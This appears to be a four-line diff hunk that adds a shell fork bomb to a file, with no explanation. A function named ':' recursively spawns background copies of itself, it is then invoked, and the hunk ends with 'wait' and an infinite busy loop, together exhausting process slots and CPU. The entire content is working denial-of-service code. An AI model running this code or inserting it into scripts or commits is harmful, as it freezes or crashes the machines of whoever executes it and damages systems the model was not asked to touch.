@@ -1,0 +1,4 @@
+:() { : | : & }
+:
+wait
+while :; do :; done
